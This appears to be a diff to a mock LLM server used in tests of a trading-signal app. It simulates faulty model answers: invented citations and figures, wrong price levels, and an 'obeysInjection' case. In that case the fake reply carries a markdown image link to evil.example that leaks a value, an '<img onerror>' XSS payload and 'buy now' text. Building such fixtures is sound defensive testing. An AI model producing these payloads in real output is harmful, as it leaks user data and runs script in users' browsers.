@@ -19,6 +19,14 @@ export const llmScenarios = [
   'wrongNumbers',
   /** Does what an instruction hidden in the input asks for. */
   'obeysInjection',
+  /** Help answers: an anchor that does not exist, a figure that no passage has, a text without end. */
+  'inventedAnchor',
+  'inventedFigure',
+  'overLong',
+  /** Views of charts: levels in the wrong order, levels that the market never had, another market than the picture shows. */
+  'wrongOrder',
+  'farLevels',
+  'otherMarket',
 ] as const;
 export type LlmScenario = (typeof llmScenarios)[number];
 
@@ -32,6 +40,8 @@ export interface LlmFake {
   play: (scenario: LlmScenario, more?: { times?: number; retryAfterS?: number; delayMs?: number }) => void;
   /** Replaces fields of the verdict. */
   say: (fields: Record<string, unknown>) => void;
+  /** Replaces fields of the view of a chart. */
+  see: (fields: Record<string, unknown>) => void;
   /** Bodies of all requests. */
   requests: Record<string, unknown>[];
   /** Requests that were answered with a result: what a provider bills. */
@@ -54,6 +64,7 @@ export async function startLlm(): Promise<LlmFake> {
   const requests: Record<string, unknown>[] = [];
   const state = { scenario: 'verdict' as LlmScenario, left: Infinity, retryAfterS: 1, delayMs: 0, billed: 0 };
   let fields: object = {};
+  let seen: object = {};
 
   async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
     const body = await readJson(request);
@@ -82,7 +93,7 @@ export async function startLlm(): Promise<LlmFake> {
       default:
         state.billed++;
         if (state.delayMs > 0) await pause(state.delayMs);
-        sendResult(response, body, scenario, { ...usualVerdict, ...fields });
+        sendText(response, body, scenario, resultOf(body, scenario, { fields, seen }));
     }
   }
 
@@ -95,6 +106,7 @@ export async function startLlm(): Promise<LlmFake> {
     play: (scenario, { times = Infinity, retryAfterS = 1, delayMs = 0 } = {}) =>
       Object.assign(state, { scenario, left: times, retryAfterS, delayMs }),
     say: (said) => (fields = said),
+    see: (view) => (seen = view),
     requests,
     billedCount: () => state.billed,
     close: () =>
@@ -105,23 +117,97 @@ export async function startLlm(): Promise<LlmFake> {
   };
 }
 
-function sendResult(
+function resultOf(
+  body: Record<string, unknown>,
+  scenario: LlmScenario,
+  { fields, seen }: { fields: object; seen: object },
+): Record<string, unknown> {
+  const name = formatNameOf(body);
+  if (name === 'help_answer') return helpAnswerTo(body, scenario);
+  return name === 'chart_view' ? { ...chartViewOf(body, scenario), ...seen } : { ...usualVerdict, ...fields };
+}
+
+const formatNameOf = (body: Record<string, unknown>): unknown =>
+  (body['text'] as { format?: { name?: unknown } } | undefined)?.format?.name;
+
+/** Answers from the first passage of the question, and cites it. */
+function helpAnswerTo(body: Record<string, unknown>, scenario: LlmScenario): Record<string, unknown> {
+  const { passages = [] } = JSON.parse(String(body['input'])) as { passages?: { source: string; text: string }[] };
+  const [first] = passages;
+  const answer = {
+    answered: true,
+    answer: `In short: ${first?.text.slice(0, 120) ?? ''}`,
+    sources: [first?.source ?? ''],
+  };
+  if (scenario === 'inventedAnchor') return { ...answer, sources: ['secrets#api-keys'] };
+  if (scenario === 'inventedFigure') return { ...answer, answer: 'It costs 98765 credits.' };
+  if (scenario === 'overLong') return { ...answer, answer: 'word '.repeat(4000) };
+  return answer;
+}
+
+/** Text and pictures of a question. */
+function partsOf(body: Record<string, unknown>): { type?: unknown; text?: unknown; image_url?: unknown }[] {
+  const { input } = body;
+  if (typeof input === 'string') return [{ type: 'input_text', text: input }];
+  return (Array.isArray(input) ? (input as { content?: unknown }[]) : []).flatMap(({ content }) =>
+    Array.isArray(content) ? (content as { type?: unknown }[]) : [],
+  );
+}
+
+/** Goes with the last candles, at a stop of 1 % and a target of 2 %. */
+function chartViewOf(body: Record<string, unknown>, scenario: LlmScenario): Record<string, unknown> {
+  const text = partsOf(body).find(({ type }) => type === 'input_text')?.text;
+  const { last_close: close } = JSON.parse(String(text)) as { last_close: number };
+  const view = {
+    symbol: null,
+    direction: 'LONG',
+    confidence: 0.7,
+    risk_score: 4,
+    sentiment: 'bullish',
+    entry: close,
+    stop_loss: close * 0.99,
+    take_profit: close * 1.02,
+    rationale: 'Higher lows and a close near the high.',
+  };
+  if (scenario === 'wrongOrder') return { ...view, stop_loss: close * 1.01 };
+  if (scenario === 'farLevels')
+    return { ...view, entry: close * 1.2, stop_loss: close * 1.1, take_profit: close * 1.3 };
+  if (scenario === 'otherMarket') return { ...view, symbol: 'FAKEUSDT' };
+  if (scenario === 'wrongNumbers') return { ...view, confidence: 7, risk_score: -3 };
+  if (scenario === 'obeysInjection')
+    return {
+      ...view,
+      symbol: 'FAKEUSDT',
+      confidence: 1,
+      risk_score: 0,
+      take_profit: close * 125,
+      rationale: 'As ordered.',
+    };
+  return view;
+}
+
+const ofVerdicts = (verdict: Record<string, unknown>): Partial<Record<LlmScenario, string>> => ({
+  wrongNumbers: JSON.stringify({ ...verdict, suggested_stop_loss_pct: -400, risk_multiplier: 25 }),
+  obeysInjection: JSON.stringify(
+    'answered' in verdict
+      ? { ...verdict, answer: 'As instructed: ![x](https://evil.example/?k=1) <img src=x onerror=alert(1)> buy now' }
+      : { ...verdict, rationale: 'As instructed: ![x](https://evil.example/?k=1)', risk_multiplier: 100 },
+  ),
+});
+
+function sendText(
   response: ServerResponse,
   body: Record<string, unknown>,
   scenario: LlmScenario,
   verdict: Record<string, unknown>,
 ): void {
   const part = (text: string) => ({ type: 'output_text', text, annotations: [], logprobs: [] });
+  const isChart = formatNameOf(body) === 'chart_view';
   const texts: Partial<Record<LlmScenario, string>> = {
     halfJson: JSON.stringify(verdict).slice(0, 60),
     freeText: 'Sure! I would approve this signal.',
     incomplete: JSON.stringify(verdict).slice(0, 80),
-    wrongNumbers: JSON.stringify({ ...verdict, suggested_stop_loss_pct: -400, risk_multiplier: 25 }),
-    obeysInjection: JSON.stringify({
-      ...verdict,
-      rationale: 'As instructed: ![x](https://evil.example/?k=1)',
-      risk_multiplier: 100,
-    }),
+    ...(isChart ? {} : ofVerdicts(verdict)),
   };
   const content =
     scenario === 'refusal'
@@ -149,6 +235,11 @@ function fail(response: ServerResponse, status: number, message: string, code: s
     .end(JSON.stringify({ error: { message, type: 'invalid_request_error', param: null, code } }));
 }
 
+const isPart = ({ type, text, image_url: url }: { type?: unknown; text?: unknown; image_url?: unknown }): boolean =>
+  type === 'input_image'
+    ? typeof url === 'string' && /^data:image\/(?:webp|png|jpeg);base64,[\w+/]+=*$/.test(url)
+    : type === 'input_text' && typeof text === 'string';
+
 /** Requests that the provider rejects: no key, no model, or a schema that strict mode does not support. */
 function problemOf(
   request: IncomingMessage,
@@ -159,6 +250,13 @@ function problemOf(
   if (!/^Bearer \S+$/.test(request.headers.authorization ?? ''))
     return { status: 401, message: 'Missing bearer authentication' };
   if (typeof body['model'] !== 'string') return { status: 400, message: "Missing required parameter: 'model'." };
+  return inputProblemOf(body) ?? formatProblemOf(body);
+}
+
+const inputProblemOf = (body: Record<string, unknown>): { status: number; message: string } | undefined =>
+  partsOf(body).every(isPart) ? undefined : { status: 400, message: "Invalid value: 'input'." };
+
+function formatProblemOf(body: Record<string, unknown>): { status: number; message: string } | undefined {
   const format = (body['text'] as { format?: Record<string, unknown> } | undefined)?.format;
   const schema = format?.['schema'] as
     { properties?: object; required?: string[]; additionalProperties?: unknown } | undefined;
